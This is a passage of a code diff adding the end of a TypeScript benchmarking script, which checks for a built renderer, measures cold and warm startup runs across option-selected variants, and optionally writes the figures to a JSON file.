+  if (!existsSync(join(ROOT, 'dist', 'renderer', 'index.html'))) throw new Error('no production renderer: run `npx vite build` first');
+  const variants = opt('variants', '').split(',').filter((v) => v !== '');
+  const all: Figures[] = [];
+  for (const mode of ['cold', 'warm'] as const) {
+    if (ONLY !== '' && ONLY !== mode) continue;
+    all.push(...(await measure(mode, RUNS, variants)));
+  }
+  const out = opt('json', '');
+  if (out !== '') writeFileSync(out, JSON.stringify(all, null, 2) + '\n');
+}
+
+await main();
